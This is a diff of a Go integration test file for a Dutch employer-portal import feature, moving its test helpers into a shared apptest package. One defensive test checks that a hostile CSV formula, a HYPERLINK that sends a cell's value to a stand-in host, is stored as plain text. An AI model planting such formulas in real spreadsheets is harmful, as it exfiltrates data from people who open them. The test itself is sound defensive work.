@@ -19,34 +19,9 @@ import (
 	"netwerkportaal/internal/app/apptest"
 )
 
-func scalar[T any](t testing.TB, env *apptest.Env, sql string, args ...any) T {
-	t.Helper()
-	var v T
-	if err := env.Pool.QueryRow(context.Background(), sql, args...).Scan(&v); err != nil {
-		t.Fatalf("%s: %v", sql, err)
-	}
-	return v
-}
-
-func exec(t testing.TB, env *apptest.Env, sql string, args ...any) {
-	t.Helper()
-	if _, err := env.Pool.Exec(context.Background(), sql, args...); err != nil {
-		t.Fatalf("%s: %v", sql, err)
-	}
-}
-
-func wantStatus(t testing.TB, res *apptest.Response, want int) {
-	t.Helper()
-	if res.StatusCode != want {
-		t.Fatalf("%s %s: status %d, want %d\n%.3000s", res.Request.Method, res.Request.URL.Path, res.StatusCode, want, res.Body)
-	}
-}
-
-func text(s *goquery.Selection) string { return strings.Join(strings.Fields(s.Text()), " ") }
-
 func networkAt(t testing.TB, env *apptest.Env, pos int) int64 {
 	t.Helper()
-	return scalar[int64](t, env, `SELECT id FROM networks ORDER BY id OFFSET $1 LIMIT 1`, pos-1)
+	return apptest.Scalar[int64](t, env, `SELECT id FROM networks ORDER BY id OFFSET $1 LIMIT 1`, pos-1)
 }
 
 func testdata(t testing.TB, name string) []byte {
@@ -90,7 +65,7 @@ var uploadPath = regexp.MustCompile(`^/import/(\d+)/koppelen$`)
 func upload(t testing.TB, env *apptest.Env, c *apptest.Client, network int64, filename string, data []byte) string {
 	t.Helper()
 	res := post(t, env, c, network, filename, data)
-	wantStatus(t, res, http.StatusSeeOther)
+	apptest.WantStatus(t, res, http.StatusSeeOther)
 	m := uploadPath.FindStringSubmatch(res.Header.Get("Location"))
 	if m == nil {
 		t.Fatalf("upload redirects to %q", res.Header.Get("Location"))
@@ -102,14 +77,14 @@ func upload(t testing.TB, env *apptest.Env, c *apptest.Client, network int64, fi
 func mapAsGuessed(t testing.TB, c *apptest.Client, up string) *goquery.Document {
 	t.Helper()
 	page := c.Get(up + "/koppelen")
-	wantStatus(t, page, http.StatusOK)
+	apptest.WantStatus(t, page, http.StatusOK)
 	res := c.PostForm(up+"/koppelen", apptest.FormValues(page.Doc(t), `form[action$="/koppelen"]`))
-	wantStatus(t, res, http.StatusSeeOther)
+	apptest.WantStatus(t, res, http.StatusSeeOther)
 	if res.Header.Get("Location") != up+"/voorbeeld" {
 		t.Fatalf("after mapping to %q", res.Header.Get("Location"))
 	}
 	preview := c.Get(up + "/voorbeeld")
-	wantStatus(t, preview, http.StatusOK)
+	apptest.WantStatus(t, preview, http.StatusOK)
 	return preview.Doc(t)
 }
 
@@ -125,7 +100,7 @@ func importFile(t testing.TB, env *apptest.Env, c *apptest.Client, network int64
 	up := upload(t, env, c, network, filename, data)
 	doc := mapAsGuessed(t, c, up)
 	res := apply(t, c, up, "geldig")
-	wantStatus(t, res, http.StatusSeeOther)
+	apptest.WantStatus(t, res, http.StatusSeeOther)
 	if res.Header.Get("Location") != up+"/resultaat" {
 		t.Fatalf("after importing to %q", res.Header.Get("Location"))
 	}
@@ -141,7 +116,7 @@ func summary(doc *goquery.Document) map[string]string {
 func terms(dl *goquery.Selection) map[string]string {
 	out := map[string]string{}
 	dl.Find("dt").Each(func(_ int, dt *goquery.Selection) {
-		out[text(dt)] = text(dt.Next())
+		out[apptest.Text(dt)] = apptest.Text(dt.Next())
 	})
 	return out
 }
@@ -196,9 +171,9 @@ func TestSampleImportsIntoDemo(t *testing.T) {
 		t.Errorf("preview summary %v", s)
 	}
 	if doc.Find("#tabel-geweigerd, #tabel-opmerkingen").Length() != 0 {
-		t.Errorf("the sample has refused rows or notes: %s", text(doc.Find("#tabel-geweigerd, #tabel-opmerkingen")))
+		t.Errorf("the sample has refused rows or notes: %s", apptest.Text(doc.Find("#tabel-geweigerd, #tabel-opmerkingen")))
 	}
-	if got := text(doc.Find(`section[aria-labelledby="werkgevers"] tbody tr`).First()); !strings.Contains(got, "Nieuw") {
+	if got := apptest.Text(doc.Find(`section[aria-labelledby="werkgevers"] tbody tr`).First()); !strings.Contains(got, "Nieuw") {
 		t.Errorf("first employer line %q", got)
 	}
 	if after := stateOf(t, env); after != before {
@@ -206,11 +181,11 @@ func TestSampleImportsIntoDemo(t *testing.T) {
 	}
 
 	res := apply(t, coord, up, "geldig")
-	wantStatus(t, res, http.StatusSeeOther)
+	apptest.WantStatus(t, res, http.StatusSeeOther)
 	result := coord.Get(up + "/resultaat")
-	wantStatus(t, result, http.StatusOK)
+	apptest.WantStatus(t, result, http.StatusOK)
 	rdoc := result.Doc(t)
-	if got := text(rdoc.Find(".flash")); got != "Het bestand voorbeeld-200-werkgevers.csv is geïmporteerd." {
+	if got := apptest.Text(rdoc.Find(".flash")); got != "Het bestand voorbeeld-200-werkgevers.csv is geïmporteerd." {
 		t.Errorf("flash %q", got)
 	}
 	if got := terms(rdoc.Find("dl")); got["Werkgevers aangemaakt"] != "200" || got["Contactpersonen aangemaakt"] != strconv.Itoa(rows) ||
@@ -223,7 +198,7 @@ func TestSampleImportsIntoDemo(t *testing.T) {
 		after.StatusChanges-before.StatusChanges != 200 || after.Audit-before.Audit != 200+rows {
 		t.Errorf("before %+v, after %+v (%d rows)", before, after, rows)
 	}
-	if n := scalar[int](t, env, `SELECT count(*)::int FROM audit_log WHERE source = 'import' AND action = 'aangemaakt'
+	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM audit_log WHERE source = 'import' AND action = 'aangemaakt'
 		AND actor = 'Corien de Vries' AND user_id IS NOT NULL`); n != 200+rows {
 		t.Errorf("%d audit entries with source import, want %d", n, 200+rows)
 	}
@@ -234,7 +209,7 @@ func TestSampleImportsIntoDemo(t *testing.T) {
 	if run.total != rows || run.refused != 0 || run.ec != 200 || run.eu != 0 || run.cc != rows || run.cu != 0 {
 		t.Errorf("import run %+v", run)
 	}
-	if n := scalar[int](t, env, `SELECT length(data) FROM import_uploads WHERE id = $1`, uploadID(up)); n != 0 {
+	if n := apptest.Scalar[int](t, env, `SELECT length(data) FROM import_uploads WHERE id = $1`, uploadID(up)); n != 0 {
 		t.Errorf("the upload keeps %d bytes after the import", n)
 	}
 	// Values as the portal stores them.
@@ -248,11 +223,11 @@ func TestSampleImportsIntoDemo(t *testing.T) {
 		employees != 13 || memberSince {
 		t.Errorf("Kinderopvang Eshuis: %v %s %s %s %s %s %d %v", err, kvk, sector, region, status, postcode, employees, memberSince)
 	}
-	if n := scalar[int](t, env, `SELECT count(*)::int FROM employers e WHERE e.network_id = $1 AND e.kvk_number LIKE '93%'
+	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM employers e WHERE e.network_id = $1 AND e.kvk_number LIKE '93%'
 		AND (SELECT count(*) FROM contacts c WHERE c.employer_id = e.id AND c.is_primary) <> 1`, net1); n != 0 {
 		t.Errorf("%d imported employers without exactly one primary contact", n)
 	}
-	if n := scalar[int](t, env, `SELECT count(*)::int FROM contacts WHERE job_title = 'HR-manager' AND function <> 'hr'`); n != 0 {
+	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM contacts WHERE job_title = 'HR-manager' AND function <> 'hr'`); n != 0 {
 		t.Errorf("%d HR-managers not in function hr", n)
 	}
 
@@ -264,7 +239,7 @@ func TestSampleImportsIntoDemo(t *testing.T) {
 		s["Nieuwe contactpersonen"] != "0" || s["Bestaande contactpersonen die blijven zoals ze zijn"] != strconv.Itoa(rows) {
 		t.Errorf("second preview %v", s)
 	}
-	wantStatus(t, apply(t, coord, up2, "geldig"), http.StatusSeeOther)
+	apptest.WantStatus(t, apply(t, coord, up2, "geldig"), http.StatusSeeOther)
 	again := stateOf(t, env)
 	after.Runs++
 	if again != after {
@@ -315,7 +290,7 @@ func TestAllOrNothing(t *testing.T) {
 	var got []string
 	doc.Find("#tabel-geweigerd tbody tr").Each(func(_ int, tr *goquery.Selection) {
 		var cells []string
-		tr.Find("td").Each(func(_ int, td *goquery.Selection) { cells = append(cells, text(td)) })
+		tr.Find("td").Each(func(_ int, td *goquery.Selection) { cells = append(cells, apptest.Text(td)) })
 		got = append(got, strings.Join(cells, " | "))
 	})
 	want := []string{
@@ -330,9 +305,9 @@ func TestAllOrNothing(t *testing.T) {
 	}
 
 	res := apply(t, coord, up, "alles")
-	wantStatus(t, res, http.StatusUnprocessableEntity)
+	apptest.WantStatus(t, res, http.StatusUnprocessableEntity)
 	rdoc := res.Doc(t)
-	if got := text(rdoc.Find(".error-summary")); !strings.Contains(got, "Er is niets geïmporteerd: 5 rijen kunnen niet worden geïmporteerd") {
+	if got := apptest.Text(rdoc.Find(".error-summary")); !strings.Contains(got, "Er is niets geïmporteerd: 5 rijen kunnen niet worden geïmporteerd") {
 		t.Errorf("error summary %q", got)
 	}
 	if rdoc.Find(`input[name=modus][value=alles][checked]`).Length() != 1 || rdoc.Find("#tabel-geweigerd tbody tr").Length() != 5 {
@@ -346,15 +321,15 @@ func TestAllOrNothing(t *testing.T) {
 		t.Errorf("without a choice: %d", res.StatusCode)
 	}
 
-	wantStatus(t, apply(t, coord, up, "geldig"), http.StatusSeeOther)
+	apptest.WantStatus(t, apply(t, coord, up, "geldig"), http.StatusSeeOther)
 	after := stateOf(t, env)
 	if after.Employers != before.Employers+2 || after.Contacts != before.Contacts+2 || after.Runs != before.Runs+1 {
 		t.Errorf("valid rows: %+v → %+v", before, after)
 	}
-	if n := scalar[int](t, env, `SELECT rows_refused FROM import_runs ORDER BY id DESC LIMIT 1`); n != 5 {
+	if n := apptest.Scalar[int](t, env, `SELECT rows_refused FROM import_runs ORDER BY id DESC LIMIT 1`); n != 5 {
 		t.Errorf("run records %d refused rows", n)
 	}
-	if n := scalar[int](t, env, `SELECT count(*)::int FROM employers WHERE name IN ('Schildersbedrijf Morsink', 'Veehouderij Reinders')`); n != 2 {
+	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM employers WHERE name IN ('Schildersbedrijf Morsink', 'Veehouderij Reinders')`); n != 2 {
 		t.Errorf("%d valid employers imported", n)
 	}
 }
@@ -386,9 +361,9 @@ func TestMatching(t *testing.T) {
 		t.Fatal(err)
 	}
 	// An employer without KvK number, known by name and postcode.
-	e2 := scalar[int64](t, env, `INSERT INTO employers (network_id, name, postcode, city) VALUES ($1, 'Glasatelier Zonder KvK', '7522 XY', 'Enschede')
+	e2 := apptest.Scalar[int64](t, env, `INSERT INTO employers (network_id, name, postcode, city) VALUES ($1, 'Glasatelier Zonder KvK', '7522 XY', 'Enschede')
 		RETURNING id`, net1)
-	otherKvK := scalar[string](t, env, `SELECT kvk_number FROM employers WHERE network_id = $1 AND kvk_number IS NOT NULL LIMIT 1`, net2)
+	otherKvK := apptest.Scalar[string](t, env, `SELECT kvk_number FROM employers WHERE network_id = $1 AND kvk_number IS NOT NULL LIMIT 1`, net2)
 
 	csv := strings.Join([]string{
 		"Bedrijfsnaam;KvK;Adres;Postcode;Plaats;Contactpersoon;E-mail;Telefoon;Functie",
@@ -404,7 +379,7 @@ func TestMatching(t *testing.T) {
 		// A KvK number of another network: refused.
 		fmt.Sprintf("Iemand Anders;%s;;;;;;;", otherKvK),
 	}, "\n") + "\n"
-	auditBefore := scalar[int](t, env, `SELECT count(*)::int FROM audit_log`)
+	auditBefore := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM audit_log`)
 
 	up := upload(t, env, coord, net1, "koppelingen.csv", []byte(csv))
 	doc := mapAsGuessed(t, coord, up)
@@ -413,14 +388,14 @@ func TestMatching(t *testing.T) {
 		s["Nieuwe contactpersonen"] != "2" || s["Bestaande contactpersonen die wijzigen"] != "1" || s["Rijen die niet kunnen worden geïmporteerd"] != "1 van 5" {
 		t.Errorf("summary %v", s)
 	}
-	if tr := doc.Find("#tabel-geweigerd tbody tr"); tr.Length() != 1 || text(tr.Find("td").Eq(0)) != "6" ||
-		text(tr.Find("td").Eq(2)) != otherKvK || !strings.Contains(text(tr), "hoort bij een werkgever in een ander netwerk") {
-		t.Errorf("refused %q", text(tr))
+	if tr := doc.Find("#tabel-geweigerd tbody tr"); tr.Length() != 1 || apptest.Text(tr.Find("td").Eq(0)) != "6" ||
+		apptest.Text(tr.Find("td").Eq(2)) != otherKvK || !strings.Contains(apptest.Text(tr), "hoort bij een werkgever in een ander netwerk") {
+		t.Errorf("refused %q", apptest.Text(tr))
 	}
-	if got := text(doc.Find(`section[aria-labelledby="werkgevers"] tbody`)); !strings.Contains(got, "Wijzigt: naam, plaats") {
+	if got := apptest.Text(doc.Find(`section[aria-labelledby="werkgevers"] tbody`)); !strings.Contains(got, "Wijzigt: naam, plaats") {
 		t.Errorf("employer lines %q", got)
 	}
-	wantStatus(t, apply(t, coord, up, "geldig"), http.StatusSeeOther)
+	apptest.WantStatus(t, apply(t, coord, up, "geldig"), http.StatusSeeOther)
 
 	var name, city, address string
 	var sector int64
@@ -435,26 +410,26 @@ func TestMatching(t *testing.T) {
 	if phone != "06-99999999" || function != e1.contactFunc || email != e1.contactEmail {
 		t.Errorf("contact %q %q %q", phone, function, email)
 	}
-	if n := scalar[int](t, env, `SELECT count(*)::int FROM contacts WHERE employer_id = $1 AND email = 'nieuwe.collega@example.org'
+	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM contacts WHERE employer_id = $1 AND email = 'nieuwe.collega@example.org'
 		AND function = 'inkoop' AND job_title = 'Inkoper' AND level = 'operationeel' AND NOT is_primary`, e1.id); n != 1 {
 		t.Errorf("new colleague: %d", n)
 	}
-	if n := scalar[int](t, env, `SELECT count(*)::int FROM contacts WHERE employer_id = $1 AND name = 'Piet Zonder Mail' AND function = 'directie'`, e2); n != 1 {
+	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM contacts WHERE employer_id = $1 AND name = 'Piet Zonder Mail' AND function = 'directie'`, e2); n != 1 {
 		t.Errorf("contact without e-mail: %d", n)
 	}
 	// The audit trail: the changed fields only, with the import as source.
-	changes := scalar[string](t, env, `SELECT changes::text FROM audit_log WHERE entity = 'employer' AND entity_id = $1 AND source = 'import'
+	changes := apptest.Scalar[string](t, env, `SELECT changes::text FROM audit_log WHERE entity = 'employer' AND entity_id = $1 AND source = 'import'
 		AND action = 'gewijzigd'`, e1.id)
 	if want := fmt.Sprintf(`{"naam": {"new": "%s B.V.", "old": "%s"}, "plaats": {"new": "Nieuwe Plaats", "old": "%s"}}`, e1.name, e1.name, e1.city); changes != want {
 		t.Errorf("employer audit %s, want %s", changes, want)
 	}
-	if c := scalar[string](t, env, `SELECT changes::text FROM audit_log WHERE entity = 'contact' AND entity_id = $1 AND source = 'import'`, e1.contactID); !strings.HasPrefix(c, `{"telefoon": {"new": "06-99999999"`) {
+	if c := apptest.Scalar[string](t, env, `SELECT changes::text FROM audit_log WHERE entity = 'contact' AND entity_id = $1 AND source = 'import'`, e1.contactID); !strings.HasPrefix(c, `{"telefoon": {"new": "06-99999999"`) {
 		t.Errorf("contact audit %s", c)
 	}
-	if n := scalar[int](t, env, `SELECT count(*)::int FROM audit_log WHERE entity = 'employer' AND entity_id = $1`, e2); n != 0 {
+	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM audit_log WHERE entity = 'employer' AND entity_id = $1`, e2); n != 0 {
 		t.Errorf("the unchanged employer has %d audit entries", n)
 	}
-	if n := scalar[int](t, env, `SELECT count(*)::int FROM audit_log`) - auditBefore; n != 4 {
+	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM audit_log`) - auditBefore; n != 4 {
 		t.Errorf("%d audit entries, want 4 (an employer and a contact changed, two contacts created)", n)
 	}
 
@@ -465,7 +440,7 @@ func TestMatching(t *testing.T) {
 	if s["Bestaande werkgevers die blijven zoals ze zijn"] != "2" || s["Nieuwe contactpersonen"] != "0" || s["Bestaande contactpersonen die blijven zoals ze zijn"] != "3" {
 		t.Errorf("second summary %v", s)
 	}
-	wantStatus(t, apply(t, coord, up2, "geldig"), http.StatusSeeOther)
+	apptest.WantStatus(t, apply(t, coord, up2, "geldig"), http.StatusSeeOther)
 	after := stateOf(t, env)
 	before.Runs++
 	if after != before {
@@ -523,7 +498,7 @@ func TestFormatsAndEncodings(t *testing.T) {
 	}
 	for _, tt := range tests {
 		up, doc := importFile(t, env, coord, net1, tt.file, tt.data)
-		if got := text(doc.Find("dl.summary-list").First()); !strings.Contains(got, tt.content) {
+		if got := apptest.Text(doc.Find("dl.summary-list").First()); !strings.Contains(got, tt.content) {
 			t.Errorf("%s: file described as %q", tt.file, got)
 		}
 		var got []string
@@ -538,10 +513,10 @@ func TestFormatsAndEncodings(t *testing.T) {
 			t.Errorf("%s (%s): contacts\n%s\nwant\n%s", tt.file, up, strings.Join(got, "\n"), strings.Join(tt.contacts, "\n"))
 		}
 	}
-	if n := scalar[string](t, env, `SELECT kvk_number FROM employers WHERE name = 'Zuivelfabriek De Eendracht'`); n != "01234567" {
+	if n := apptest.Scalar[string](t, env, `SELECT kvk_number FROM employers WHERE name = 'Zuivelfabriek De Eendracht'`); n != "01234567" {
 		t.Errorf("xlsx KvK number %q", n)
 	}
-	if n := scalar[string](t, env, `SELECT notes FROM employers WHERE name = 'Smit, Jansen & Zn. Installatietechniek'`); n != "Eerste gesprek in maart,\nvervolg na de zomer" {
+	if n := apptest.Scalar[string](t, env, `SELECT notes FROM employers WHERE name = 'Smit, Jansen & Zn. Installatietechniek'`); n != "Eerste gesprek in maart,\nvervolg na de zomer" {
 		t.Errorf("multi-line note %q", n)
 	}
 }
@@ -585,14 +560,14 @@ func TestHostileFilesChangeNothing(t *testing.T) {
 			continue
 		}
 		doc := res.Doc(t)
-		if got := text(doc.Find("#f-" + tt.field + "-error")); !strings.Contains(got, tt.want) {
+		if got := apptest.Text(doc.Find("#f-" + tt.field + "-error")); !strings.Contains(got, tt.want) {
 			t.Errorf("%s: error %q lacks %q", tt.name, got, tt.want)
 		}
 		if doc.Find(`.error-summary a[href="#f-`+tt.field+`"]`).Length() != 1 {
 			t.Errorf("%s: no link to the field in the error summary", tt.name)
 		}
 	}
-	if n := scalar[int](t, env, `SELECT count(*)::int FROM import_uploads`); n != 0 {
+	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM import_uploads`); n != 0 {
 		t.Errorf("%d uploads stored", n)
 	}
 	if after := stateOf(t, env); after != before {
@@ -601,11 +576,11 @@ func TestHostileFilesChangeNothing(t *testing.T) {
 
 	// Formula cells are imported as the text they are, and pointed out.
 	up, doc := importFile(t, env, coord, net1, "formules.csv", testdata(t, "formules.csv"))
-	if got := text(doc.Find("#tabel-opmerkingen")); !strings.Contains(got, "Begint met =: wordt als gewone tekst opgeslagen") ||
+	if got := apptest.Text(doc.Find("#tabel-opmerkingen")); !strings.Contains(got, "Begint met =: wordt als gewone tekst opgeslagen") ||
 		!strings.Contains(got, "Begint met @") {
 		t.Errorf("%s: notes %q", up, got)
 	}
-	if n := scalar[int](t, env, `SELECT count(*)::int FROM employers WHERE name = '=HYPERLINK("https://example.invalid/?d="&A1;"klik")'
+	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM employers WHERE name = '=HYPERLINK("https://example.invalid/?d="&A1;"klik")'
 		AND notes = '=1+1'`); n != 1 {
 		t.Errorf("formula text not stored as text")
 	}
@@ -620,9 +595,9 @@ func TestAccess(t *testing.T) {
 	up := upload(t, env, coord, net1, "fouten.csv", testdata(t, "fouten.csv"))
 
 	bestuur := env.Login(t, apptest.Bestuur)
-	wantStatus(t, bestuur.Get("/import"), http.StatusForbidden)
-	wantStatus(t, post(t, env, bestuur, net1, "fouten.csv", testdata(t, "fouten.csv")), http.StatusForbidden)
-	wantStatus(t, bestuur.Get(up+"/koppelen"), http.StatusForbidden)
+	apptest.WantStatus(t, bestuur.Get("/import"), http.StatusForbidden)
+	apptest.WantStatus(t, post(t, env, bestuur, net1, "fouten.csv", testdata(t, "fouten.csv")), http.StatusForbidden)
+	apptest.WantStatus(t, bestuur.Get(up+"/koppelen"), http.StatusForbidden)
 	if bestuur.Get("/werkgevers").Doc(t).Find(`nav a[href="/import"]`).Length() != 0 {
 		t.Errorf("bestuur sees Import in the menu")
 	}
@@ -634,31 +609,31 @@ func TestAccess(t *testing.T) {
 	for _, who := range []string{apptest.Coordinator2, apptest.Beheerder} {
 		other := env.Login(t, who)
 		for _, p := range []string{"/koppelen", "/voorbeeld", "/resultaat"} {
-			wantStatus(t, other.Get(up+p), http.StatusNotFound)
+			apptest.WantStatus(t, other.Get(up+p), http.StatusNotFound)
 		}
-		wantStatus(t, apply(t, other, up, "geldig"), http.StatusNotFound)
-		wantStatus(t, other.PostForm(up+"/koppelen", url.Values{"kolom-0": {"naam"}}), http.StatusNotFound)
+		apptest.WantStatus(t, apply(t, other, up, "geldig"), http.StatusNotFound)
+		apptest.WantStatus(t, other.PostForm(up+"/koppelen", url.Values{"kolom-0": {"naam"}}), http.StatusNotFound)
 	}
-	wantStatus(t, coord.Get("/import/abc/koppelen"), http.StatusNotFound)
-	wantStatus(t, coord.Get("/import/999999/voorbeeld"), http.StatusNotFound)
+	apptest.WantStatus(t, coord.Get("/import/abc/koppelen"), http.StatusNotFound)
+	apptest.WantStatus(t, coord.Get("/import/999999/voorbeeld"), http.StatusNotFound)
 
 	// The beheerder chooses among every network.
 	doc := env.Login(t, apptest.Beheerder).Get("/import").Doc(t)
-	if n := doc.Find(`select[name=netwerk] option[value!=""]`).Length(); n != scalar[int](t, env, `SELECT count(*)::int FROM networks`) {
+	if n := doc.Find(`select[name=netwerk] option[value!=""]`).Length(); n != apptest.Scalar[int](t, env, `SELECT count(*)::int FROM networks`) {
 		t.Errorf("beheerder chooses among %d networks", n)
 	}
 	// A user keeps at most five uploads.
 	for i := 0; i < 6; i++ {
 		upload(t, env, coord, net1, "fouten.csv", testdata(t, "fouten.csv"))
 	}
-	if n := scalar[int](t, env, `SELECT count(*)::int FROM import_uploads WHERE user_id = (SELECT id FROM users WHERE email = $1)`,
+	if n := apptest.Scalar[int](t, env, `SELECT count(*)::int FROM import_uploads WHERE user_id = (SELECT id FROM users WHERE email = $1)`,
 		apptest.Coordinator); n != 5 {
 		t.Errorf("the coordinator keeps %d uploads", n)
 	}
 	// In English.
 	u, _ := url.Parse(env.URL("/"))
 	coord.HTTP.Jar.SetCookies(u, []*http.Cookie{{Name: "taal", Value: "en"}})
-	if got := text(coord.Get("/import").Doc(t).Find("h1")); got != "Import employers" {
+	if got := apptest.Text(coord.Get("/import").Doc(t).Find("h1")); got != "Import employers" {
 		t.Errorf("English heading %q", got)
 	}
 	coord.HTTP.Jar.SetCookies(u, []*http.Cookie{{Name: "taal", Value: "nl"}})
@@ -681,14 +656,14 @@ func TestMappingErrors(t *testing.T) {
 	form.Set("kolom-2", "postcode") // postcode twice (column E is postcode)
 	form.Set("kolom-3", "bestaat-niet")
 	res := coord.PostForm(up+"/koppelen", form)
-	wantStatus(t, res, http.StatusUnprocessableEntity)
+	apptest.WantStatus(t, res, http.StatusUnprocessableEntity)
 	doc := res.Doc(t)
 	for id, want := range map[string]string{
 		"f-koppeling": "Koppel een kolom aan Werkgever: naam.",
 		"f-kolom-3":   "Kies een veld uit de lijst",
 		"f-kolom-4":   "Werkgever: Postcode is al gekoppeld aan kolom C.",
 	} {
-		if doc.Find(`.error-summary a[href="#`+id+`"]`).Length() != 1 || !strings.Contains(text(doc.Find(".error-summary")), want) {
+		if doc.Find(`.error-summary a[href="#`+id+`"]`).Length() != 1 || !strings.Contains(apptest.Text(doc.Find(".error-summary")), want) {
 			t.Errorf("error summary lacks %s: %q", id, want)
 		}
 	}
